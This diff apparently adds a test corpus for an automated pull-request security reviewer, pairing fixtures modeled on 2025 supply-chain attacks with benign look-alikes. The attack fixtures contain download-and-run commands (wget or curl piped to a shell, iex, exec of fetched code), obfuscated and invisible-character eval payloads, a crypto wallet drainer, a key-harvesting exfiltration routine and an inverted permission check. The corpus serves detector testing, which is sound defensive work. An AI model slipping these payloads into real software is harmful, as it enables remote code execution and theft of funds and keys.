@@ -1,0 +1,730 @@
+/**
+ * Corpus cases modeled on public write-ups of 2025 supply-chain attacks, each beside the benign
+ * look-alike an ordinary project would have. The fixtures are written here after the write-ups'
+ * descriptions; no third-party file is copied.
+ */
+import type { FixtureFile, PrFixture } from '../../support/pr-fixture.js';
+import { makePrFixture } from '../../support/pr-fixture.js';
+import type { CorpusEntry } from '../helpers.js';
+import { daysAgo, lines, nodeCi } from '../helpers.js';
+
+interface AttackPr {
+  readonly repo: string;
+  readonly number: number;
+  readonly title: string;
+  readonly files: FixtureFile[];
+  /** A long-standing member by default (a compromised account looks like one); `newcomer` for a first-time contributor from a fork. */
+  readonly author?: 'member' | 'newcomer';
+}
+
+/** A PR with green CI: only what the change does decides the verdict. */
+function attackPr(spec: AttackPr): PrFixture {
+  const member = spec.author !== 'newcomer';
+  return makePrFixture({
+    owner: 'acme',
+    repo: spec.repo,
+    number: spec.number,
+    title: spec.title,
+    author: member ? { login: 'mchen', association: 'MEMBER', createdAt: '2016-04-01T00:00:00Z' } : { login: 'quickfix-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2025-09-01T00:00:00Z' },
+    fork: !member,
+    files: spec.files,
+    commits: [{ message: spec.title }],
+    checkRuns: nodeCi(),
+    priorPrs: member ? { total: 240, merged: 231 } : { total: 1, merged: 0 },
+    createdAt: daysAgo(1),
+  });
+}
+
+const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
+
+const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
+/** A payload hidden as variation selectors: one selector a byte (U+FE00-U+FE0F for 0-15, U+E0100-U+E01EF for 16-255). */
+const HIDDEN = [...Buffer.from("require('child_process').exec('curl -s https://x.invalid/p | sh')")].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
+
+const GUARD_BASE = lines(
+  "import type { User } from '../users';",
+  '',
+  '// Chekc the role before anything is deleted.',
+  'export function assertCanDelete(user: User): void {',
+  "  if (!user.roles.includes('admin')) throw new Error('Acess denied');",
+  '}',
+);
+
+/** A notebook as Jupyter writes it (nbformat 4, one-space indentation, each cell's keys in order). */
+function notebookText(cells: readonly { type: 'code' | 'markdown'; source: readonly string[] }[]): string {
+  const source = (lines: readonly string[]) => lines.map((l, i) => (i < lines.length - 1 ? `${l}\n` : l));
+  const body = {
+    cells: cells.map((c, i) =>
+      c.type === 'code' ? { cell_type: 'code', execution_count: null, id: `c${i}`, metadata: {}, outputs: [], source: source(c.source) } : { cell_type: 'markdown', id: `m${i}`, metadata: {}, source: source(c.source) },
+    ),
+    metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } },
+    nbformat: 4,
+    nbformat_minor: 5,
+  };
+  return `${JSON.stringify(body, null, 1)}\n`;
+}
+
+/** A .NET local tool manifest as `dotnet new tool-manifest` and `dotnet tool install` write it. */
+function dotnetTools(tools: Record<string, [version: string, command: string]>): string {
+  const entries = Object.fromEntries(Object.entries(tools).map(([name, [version, command]]) => [name, { version, commands: [command], rollForward: false }]));
+  return `${JSON.stringify({ version: 1, isRoot: true, tools: entries }, null, 2)}\n`;
+}
+
+/** Directory.Build.targets with an inline task whose C# is the file build/<name>.cs, run before every build. */
+function inlineTaskTargets(name: string): string {
+  return lines(
+    '<Project>',
+    `  <UsingTask TaskName="${name}" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">`,
+    `    <Task><Code Type="Class" Language="cs" Source="$(MSBuildThisFileDirectory)build\\${name}.cs" /></Task>`,
+    '  </UsingTask>',
+    `  <Target Name="Run${name}" BeforeTargets="Build"><${name} /></Target>`,
+    '</Project>',
+  );
+}
+
+export const ATTACK_CASES: CorpusEntry[] = [
+  {
+    id: 'attack-go-module-init-wget-bash',
+    description: 'Socket, May 2025 (malicious Go modules prototransform, go-mcp, tlsproxy): a helper file whose init() runs `wget -O - https://… | /bin/bash &` through exec.Command("/bin/sh", "-c", …).',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7101,
+        title: 'Add platform helpers',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'platform.go',
+            head: lines('package logx', '', 'import (', '\t"os/exec"', '\t"runtime"', ')', '', 'func init() {', '\tif runtime.GOOS != "linux" {', '\t\treturn', '\t}', '\texec.Command("/bin/sh", "-c", "wget -O - https://monsoletter.icu/storage/de373d0df/a31546bf | /bin/bash &").Start()', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'], drivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-go-cli-prints-install-hint',
+    description: "A Go CLI's doctor command prints how to install a missing tool (a curl | sh line as text) and runs `go version`: nothing downloaded is run.",
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7102,
+        title: 'doctor: explain how to install golangci-lint',
+        files: [
+          {
+            path: 'cmd/logx/doctor.go',
+            base: lines('package main', '', 'import (', '\t"fmt"', '\t"os/exec"', ')', '', 'func doctor() {', '\tout, _ := exec.Command("go", "version").Output()', '\tfmt.Print(string(out))', '}'),
+            head: lines(
+              'package main',
+              '',
+              'import (',
+              '\t"fmt"',
+              '\t"os/exec"',
+              ')',
+              '',
+              'const lintHint = "curl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/HEAD/install.sh | sh -s -- -b $(go env GOPATH)/bin"',
+              '',
+              'func doctor() {',
+              '\tout, _ := exec.Command("go", "version").Output()',
+              '\tfmt.Print(string(out))',
+              '\tif _, err := exec.LookPath("golangci-lint"); err != nil {',
+              '\t\tfmt.Println("golangci-lint not found; install it with:", lintHint)',
+              '\t}',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-pypi-exec-of-download',
+    description: 'The dropper of many malicious PyPI packages of 2024-2025: a module that runs `exec(requests.get(URL).text)` when imported.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastconf',
+        number: 7103,
+        title: 'Add remote defaults',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/fastconf/defaults.py',
+            base: lines('DEFAULTS = {"timeout": 30}', '', 'def load():', '    return dict(DEFAULTS)'),
+            head: lines('import requests', '', 'DEFAULTS = {"timeout": 30}', '', "exec(requests.get('https://fastconf-cdn.dev/defaults.py', timeout=5).text)", '', 'def load():', '    return dict(DEFAULTS)'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'], drivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-python-fetches-json-config',
+    description: 'A maintainer loads remote defaults with requests.get(...).json(): data read from the network, not code run.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastconf',
+        number: 7104,
+        title: 'Load remote defaults as JSON',
+        files: [
+          {
+            path: 'src/fastconf/defaults.py',
+            base: lines('DEFAULTS = {"timeout": 30}', '', 'def load():', '    return dict(DEFAULTS)', '', '', '', '', '', '', '', 'def render(template, scope):', '    return template.format(**scope)'),
+            head: lines(
+              'import requests',
+              '',
+              'DEFAULTS = {"timeout": 30}',
+              '',
+              'def load(url=None):',
+              '    if url is None:',
+              '        return dict(DEFAULTS)',
+              '    return {**DEFAULTS, **requests.get(url, timeout=5).json()}',
+              '',
+              '',
+              '',
+              '',
+              'def render(template, scope):',
+              '    return template.format(**scope)',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-library-index-obfuscated-block',
+    description: "Aikido and Socket, September 2025 (chalk, debug and 16 sibling packages): a maintainer's account appends an obfuscator.io block (`_0x…` names) to a small library's index.js under a routine title.",
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7105,
+        title: 'fix: color detection on windows',
+        files: [
+          {
+            path: 'index.js',
+            base: INDEX_BASE,
+            head:
+              INDEX_BASE +
+              lines(
+                "const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{const _0x2cc99e=parseInt(_0x15b386(0x46c))/0x1+-parseInt(_0x15b386(0x47d))/0x3;if(_0x2cc99e===_0x35f660)break;else _0x66ea25['push'](_0x66ea25['shift']());}catch(_0x505a80){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0x524b,0xb5b2c));",
+              ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-library-adds-hex-table',
+    description: 'A maintainer adds a CRC-32 lookup table of hex constants and a mask to the same library: hex, but no obfuscator names.',
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7106,
+        title: 'feat: checksum helper',
+        files: [
+          {
+            path: 'crc32.js',
+            head: lines(
+              "'use strict';",
+              '',
+              'const TABLE = new Int32Array([',
+              '  0x00000000, 0x77073096, 0xee0e612c, 0x990951ba, 0x076dc419, 0x706af48f, 0xe963a535, 0x9e6495a3,',
+              '  0x0edb8832, 0x79dcb8a4, 0xe0d5e91e, 0x97d2d988, 0x09b64c2b, 0x7eb17cbd, 0xe7b82d07, 0x90bf1d91,',
+              ']);',
+              'const MASK_0xFF = 0xff;',
+              '',
+              'module.exports = function crc32(bytes) {',
+              '  let crc = -1;',
+              '  for (const b of bytes) crc = TABLE[(crc ^ b) & MASK_0xFF & 0x0f] ^ (crc >>> 8);',
+              '  return (crc ^ -1) >>> 0;',
+              '};',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-extension-variation-selector-payload',
+    description: 'Koi Security and Aikido, 2025 (GlassWorm VS Code extensions, os-info-checker-es6): a "cleanup" adds an empty-looking template string of variation selectors that a line beside it decodes and evaluates.',
+    fixture: () =>
+      attackPr({
+        repo: 'vscode-tidy',
+        number: 7107,
+        title: 'refactor: small cleanup',
+        files: [
+          {
+            path: 'src/extension.js',
+            base: EXTENSION_BASE,
+            head:
+              EXTENSION_BASE +
+              lines(
+                'const s = (v) => [...v].map((w) => ((w = w.codePointAt(0)), w >= 0xfe00 && w <= 0xfe0f ? w - 0xfe00 : w >= 0xe0100 && w <= 0xe01ef ? w - 0xe0100 + 16 : null)).filter((n) => n !== null);',
+                `eval(Buffer.from(s(\`${HIDDEN}\`)).toString('utf-8'));`,
+              ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['invisible-character'], drivers: ['finding:invisible-character'] },
+  },
+  {
+    id: 'attack-extension-emoji-messages',
+    description: "The same extension's status messages gain emoji: presentation selectors, a joined family, a rainbow flag, a keycap and a subdivision flag.",
+    fixture: () =>
+      attackPr({
+        repo: 'vscode-tidy',
+        number: 7108,
+        title: 'feat: friendlier status messages',
+        files: [
+          {
+            path: 'src/messages.js',
+            base: lines("'use strict';", '', "exports.done = 'Tidied';", "exports.failed = 'Could not tidy';"),
+            head: lines(
+              "'use strict';",
+              '',
+              "exports.done = '\u2714\uFE0F Tidied';",
+              "exports.failed = '\u26A0\uFE0F Could not tidy';",
+              "exports.team = 'Made by \u{1F468}\u200D\u{1F469}\u200D\u{1F467} with \u2764\uFE0F and \u{1F3F3}\uFE0F\u200D\u{1F308} #\uFE0F\u20E3';",
+              `exports.home = 'From ${String.fromCodePoint(0x1f3f4, 0xe0067, 0xe0062, 0xe0077, 0xe006c, 0xe0073, 0xe007f)}';`,
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
+  },
+  {
+    id: 'attack-go-module-assembled-command',
+    description: 'Socket, 2025 (typosquatted Go modules): the command is spelled by indexing a slice of one-letter strings and adding the pieces, then run with exec.Command("/bin/sh", "-c", …) from init().',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7109,
+        title: 'Add color support check',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'color.go',
+            head: lines(
+              'package logx',
+              '',
+              'import "os/exec"',
+              '',
+              'func init() {',
+              '\tDmM := []string{"4", "/", " ", "e", "/", "g", "d", "3", "6", " ", "4", "w", "/", "7", "d", ".", "b", "h", "t", "a", "-", "O", "|", "s", "p", ":", "n"}',
+              '\tywhhM := DmM[11] + DmM[5] + DmM[3] + DmM[18] + DmM[2] + DmM[20] + DmM[21] + DmM[2] + DmM[20] + DmM[2] + DmM[17] + DmM[18] + DmM[18] + DmM[24] + DmM[25]',
+              '\texec.Command("/bin/sh", "-c", ywhhM).Start()',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'], drivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-go-magic-bytes-and-file-command',
+    description: 'A maintainer sniffs image types by their magic bytes and falls back to the `file` command: a byte table and a process call in one hunk, nothing hidden.',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 7110,
+        title: 'Detect attachment types',
+        files: [
+          {
+            path: 'attach/sniff.go',
+            head: lines(
+              'package attach',
+              '',
+              'import (',
+              '\t"bytes"',
+              '\t"os/exec"',
+              '\t"strings"',
+              ')',
+              '',
+              'var pngMagic = []byte{0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a}',
+              '',
+              '// Kind names the type of a file from its first bytes, or asks file(1).',
+              'func Kind(path string, head []byte) string {',
+              '\tif bytes.HasPrefix(head, pngMagic) {',
+              '\t\treturn "image/png"',
+              '\t}',
+              '\tout, err := exec.Command("file", "--brief", "--mime-type", path).Output()',
+              '\tif err != nil {',
+              '\t\treturn "application/octet-stream"',
+              '\t}',
+              '\treturn strings.TrimSpace(string(out))',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-nuget-init-ps1-downloads',
+    description: 'JFrog, March 2023 (malicious NuGet packages): tools/init.ps1, which Visual Studio runs when the package is installed, runs Invoke-Expression on a script downloaded from a bare IP address.',
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Json',
+        number: 7111,
+        title: 'Add package tools',
+        author: 'newcomer',
+        files: [
+          { path: 'src/Acme.Json/tools/init.ps1', head: lines('param($installPath, $toolsPath, $package, $project)', '$ErrorActionPreference = "SilentlyContinue"', "iex ((New-Object System.Net.WebClient).DownloadString('http://45.77.12.9/nuget/init.ps1'))") },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'], drivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-build-ps1-dotnet-install',
+    description: "A maintainer's build.ps1 downloads dotnet-install.ps1 to a file and runs it for a pinned SDK version, as the .NET documentation shows.",
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Json',
+        number: 7112,
+        title: 'build: bootstrap the SDK on Windows',
+        files: [
+          {
+            path: 'build.ps1',
+            head: lines(
+              '$ErrorActionPreference = "Stop"',
+              '$SdkVersion = "8.0.404"',
+              '$Installer = Join-Path $env:TEMP "dotnet-install.ps1"',
+              'Invoke-WebRequest -Uri "https://dot.net/v1/dotnet-install.ps1" -OutFile $Installer',
+              '& $Installer -Version $SdkVersion -InstallDir "$PSScriptRoot/.dotnet"',
+              '& "$PSScriptRoot/.dotnet/dotnet" build -c Release',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-sbt-build-runs-download',
+    description: 'A "formatter" PR to a Scala library adds a line to build.sbt that pipes a script from an unknown host into sh: sbt runs it whenever anyone loads the build, IDE imports included.',
+    fixture: () =>
+      attackPr({
+        repo: 'scala-kit',
+        number: 7113,
+        title: 'build: enable the formatter',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'build.sbt',
+            base: lines('ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'libraryDependencies += "org.typelevel" %% "cats-core" % "2.12.0"'),
+            head: lines('import scala.sys.process._', '', 'ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'libraryDependencies += "org.typelevel" %% "cats-core" % "2.12.0"', '', 'val fmt = ("curl -fsSL https://scalafmt-dist.dev/bootstrap.sh" #| "sh").!'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-sbt-version-from-git',
+    description: "A maintainer derives the build's version from `git describe` with sys.process, as many sbt builds do.",
+    fixture: () =>
+      attackPr({
+        repo: 'scala-kit',
+        number: 7114,
+        title: 'build: version from git tags',
+        files: [
+          {
+            path: 'build.sbt',
+            base: lines('ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'version := "0.4.0-SNAPSHOT"'),
+            head: lines('import scala.sys.process._', '', 'ThisBuild / scalaVersion := "3.4.2"', 'name := "scala-kit"', 'version := ("git describe --tags --always --dirty".!!).trim.stripPrefix("v")'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-library-wallet-drainer',
+    description: 'The chalk and debug drainer (September 2025), readable: a maintainer account adds code to a small library that wraps window.ethereum.request and fetch and swaps recipients for its own addresses.',
+    fixture: () =>
+      attackPr({
+        repo: 'ansi-tint',
+        number: 7115,
+        title: 'fix: handle browsers without process',
+        files: [
+          {
+            path: 'index.js',
+            base: INDEX_BASE,
+            head:
+              INDEX_BASE +
+              lines(
+                "if (typeof window !== 'undefined') {",
+                "  const targets = ['0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976', '0xa29eeFb6f2D3A1A2d2f5e3E6e0C1b1B6c4F1d2E3'];",
+                '  const swap = (text) => text.replace(/0x[0-9a-fA-F]{40}/g, targets[0]);',
+                '  const nativeFetch = window.fetch;',
+                '  window.fetch = async (...args) => { const r = await nativeFetch(...args); return new Response(swap(await r.clone().text()), r); };',
+                '  if (window.ethereum) {',
+                '    const request = window.ethereum.request.bind(window.ethereum);',
+                "    window.ethereum.request = async (p) => { if (p.method === 'eth_sendTransaction') p.params[0].to = targets[1]; return request(p); };",
+                '  }',
+                '}',
+              ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['crypto-wallet-hook'], drivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
+    id: 'attack-dapp-tracing-and-contracts',
+    description: "A dApp's maintainer adds request tracing that wraps fetch, in a module that also lists the token contracts the app reads: a network hook and addresses, but no wallet hook and the addresses are the app's own data.",
+    fixture: () =>
+      attackPr({
+        repo: 'swap-ui',
+        number: 7116,
+        title: 'Trace API requests',
+        files: [
+          {
+            path: 'src/tracing.ts',
+            head: lines(
+              "import { startSpan } from './telemetry';",
+              '',
+              'const original = window.fetch.bind(window);',
+              'window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {',
+              "  const span = startSpan('fetch', String(input));",
+              '  try {',
+              '    return await original(input, init);',
+              '  } finally {',
+              '    span.end();',
+              '  }',
+              '};',
+            ),
+          },
+          {
+            path: 'src/tokens.ts',
+            head: lines("export const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';", "export const WETH = '0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2';"),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:crypto-wallet-hook'] },
+  },
+  {
+    id: 'attack-typo-fix-inverts-permission-check',
+    description: 'A "Fix typo in comment" PR fixes a comment in an authorization guard and drops the `!` of its permission check: every non-admin may now delete.',
+    fixture: () =>
+      attackPr({
+        repo: 'storefront',
+        number: 7117,
+        title: 'Fix typo in comment',
+        author: 'newcomer',
+        files: [{ path: 'src/auth/guard.ts', base: GUARD_BASE, head: GUARD_BASE.replace('Chekc', 'Check').replace("if (!user.roles.includes('admin'))", "if (user.roles.includes('admin'))") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pr-claim-mismatch'], drivers: ['finding:pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-typo-fix-in-guard-comments',
+    description: 'A maintainer fixes typos in the same guard: a comment and the error message, nothing else (no finding; a change under src/auth/ without tests may still ask for a look).',
+    fixture: () =>
+      attackPr({
+        repo: 'storefront',
+        number: 7118,
+        title: 'Fix typo in comment',
+        files: [{ path: 'src/auth/guard.ts', base: GUARD_BASE, head: GUARD_BASE.replace('Chekc', 'Check').replace('Acess', 'Access') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true, absentDrivers: ['finding:pr-claim-mismatch'] },
+  },
+  {
+    id: 'attack-crate-scans-for-keys',
+    description: 'Socket, September 2025 (faster_log, async_println): a logging crate gains code that walks the project, matches Ethereum-style private keys and posts them to a Workers host.',
+    fixture: () =>
+      attackPr({
+        repo: 'fast-log',
+        number: 7119,
+        title: 'perf: buffer log lines',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/lib.rs',
+            base: lines('pub fn info(msg: &str) {', '    println!("[info] {msg}");', '}'),
+            head: lines(
+              'use regex::Regex;',
+              'use walkdir::WalkDir;',
+              '',
+              'pub fn info(msg: &str) {',
+              '    println!("[info] {msg}");',
+              '    std::thread::spawn(flush);',
+              '}',
+              '',
+              'fn flush() {',
+              '    let pattern = Regex::new(r"0x[a-fA-F0-9]{64}").unwrap();',
+              '    let client = reqwest::blocking::Client::new();',
+              '    for entry in WalkDir::new(".").into_iter().flatten() {',
+              '        let Ok(text) = std::fs::read_to_string(entry.path()) else { continue };',
+              '        for hit in pattern.find_iter(&text) {',
+              '            let _ = client.post("https://mainnet.solana-rpc-pool.workers.dev/").body(hit.as_str().to_owned()).send();',
+              '        }',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'], drivers: ['finding:secret-harvesting'] },
+  },
+  {
+    id: 'attack-wallet-crate-validates-keys',
+    description: "A wallet crate's maintainer adds key validation (a 64-hex pattern) and a JSON-RPC call to the node: no file is walked.",
+    fixture: () =>
+      attackPr({
+        repo: 'eth-wallet-rs',
+        number: 7120,
+        title: 'Validate imported keys',
+        files: [
+          {
+            path: 'src/import.rs',
+            head: lines(
+              'use regex::Regex;',
+              '',
+              'pub fn import(key: &str, rpc: &str) -> Result<String, Error> {',
+              '    let pattern = Regex::new(r"^0x[a-fA-F0-9]{64}$").unwrap();',
+              '    if !pattern.is_match(key) {',
+              '        return Err(Error::InvalidKey);',
+              '    }',
+              '    let address = derive_address(key)?;',
+              '    let body = serde_json::json!({"jsonrpc": "2.0", "method": "eth_getBalance", "params": [address, "latest"], "id": 1});',
+              '    reqwest::blocking::Client::new().post(rpc).json(&body).send()?;',
+              '    Ok(address)',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
+  },
+  {
+    id: 'attack-notebook-cell-runs-download',
+    description: 'An "example notebook" whose first code cell pipes a script from a bare IP address into bash: it runs for everyone who opens the example, and in the docs build that executes notebooks.',
+    fixture: () =>
+      attackPr({
+        repo: 'tabular-ml',
+        number: 7121,
+        title: 'docs: add a quickstart notebook',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'docs/examples/quickstart.ipynb',
+            head: notebookText([
+              { type: 'markdown', source: ['# Quickstart'] },
+              { type: 'code', source: ['!curl -s http://45.77.12.9/env-setup.sh | bash', 'import tabular_ml as tm'] },
+              { type: 'code', source: ["model = tm.fit('data/iris.csv')", 'model.score()'] },
+            ]),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'], drivers: ['finding:curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-notebook-ordinary-quickstart',
+    description: "A maintainer's quickstart notebook installs its dependencies with !pip, tells readers in Markdown how to install the CLI with curl | sh, and fits a model.",
+    fixture: () =>
+      attackPr({
+        repo: 'tabular-ml',
+        number: 7122,
+        title: 'docs: add a quickstart notebook',
+        files: [
+          {
+            path: 'docs/examples/quickstart.ipynb',
+            head: notebookText([
+              { type: 'markdown', source: ['# Quickstart', 'Install the command-line tool with `curl -fsSL https://get.tabular-ml.dev/install.sh | sh`, or use it from Python:', '![pipeline](img/pipeline.png)'] },
+              { type: 'code', source: ['!pip install -q tabular-ml==0.9.2 pandas==2.2.3', 'import pandas as pd', 'import tabular_ml as tm'] },
+              { type: 'code', source: ["df = pd.read_csv('data/iris.csv')", "model = tm.fit(df, target='species')", 'model.score()'] },
+            ]),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'attack-dotnet-tool-typosquat',
+    description: 'A PR adds a .NET local tool whose package name is one letter off dotnet-ef while it provides the dotnet-ef command: `dotnet tool restore` in CI installs it and every `dotnet ef` runs it.',
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Orders',
+        number: 7123,
+        title: 'chore: add EF migrations tool',
+        author: 'newcomer',
+        files: [{ path: '.config/dotnet-tools.json', base: dotnetTools({ csharpier: ['0.30.6', 'dotnet-csharpier'] }), head: dotnetTools({ csharpier: ['0.30.6', 'dotnet-csharpier'], 'dotnet-eff': ['9.0.1', 'dotnet-ef'] }) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'], drivers: ['finding:typosquat'] },
+  },
+  {
+    id: 'attack-dotnet-tools-ordinary',
+    description: 'A maintainer adds the real dotnet-ef and the coverage report generator as local tools.',
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Orders',
+        number: 7124,
+        title: 'chore: add EF migrations and coverage tools',
+        files: [
+          {
+            path: '.config/dotnet-tools.json',
+            base: dotnetTools({ csharpier: ['0.30.6', 'dotnet-csharpier'] }),
+            head: dotnetTools({ csharpier: ['0.30.6', 'dotnet-csharpier'], 'dotnet-ef': ['9.0.1', 'dotnet-ef'], 'dotnet-reportgenerator-globaltool': ['5.4.1', 'reportgenerator'] }),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', noFindings: true },
+  },
+  {
+    id: 'attack-msbuild-inline-task-source-file',
+    description: 'Directory.Build.targets gains an inline task whose C# lives in build/Restore.cs; that file downloads a script from a bare IP address and runs it with PowerShell before every build.',
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Orders',
+        number: 7125,
+        title: 'build: cache restore helper',
+        author: 'newcomer',
+        files: [
+          { path: 'Directory.Build.targets', head: inlineTaskTargets('Restore') },
+          {
+            path: 'build/Restore.cs',
+            head: lines(
+              'using Microsoft.Build.Utilities;',
+              '',
+              'public class Restore : Task',
+              '{',
+              '    public override bool Execute()',
+              '    {',
+              '        var script = new System.Net.WebClient().DownloadString("http://45.77.12.9/restore.ps1");',
+              '        System.Diagnostics.Process.Start("powershell", "-NoProfile -Command " + script);',
+              '        return true;',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'], drivers: ['finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-msbuild-inline-task-generator',
+    description: "A maintainer's inline task, kept in build/Version.cs, writes the version from the git tag into a generated file.",
+    fixture: () =>
+      attackPr({
+        repo: 'Acme.Orders',
+        number: 7126,
+        title: 'build: stamp the version',
+        files: [
+          { path: 'Directory.Build.targets', head: inlineTaskTargets('Version') },
+          {
+            path: 'build/Version.cs',
+            head: lines(
+              'using Microsoft.Build.Framework;',
+              'using Microsoft.Build.Utilities;',
+              '',
+              'public class Version : Task',
+              '{',
+              '    [Required] public string Tag { get; set; } = "";',
+              '    [Required] public string Output { get; set; } = "";',
+              '',
+              '    public override bool Execute()',
+              '    {',
+              "        System.IO.File.WriteAllText(Output, $\"[assembly: System.Reflection.AssemblyInformationalVersion(\\\"{Tag.TrimStart('v')}\\\")]\");",
+              '        return true;',
+              '    }',
+              '}',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+];
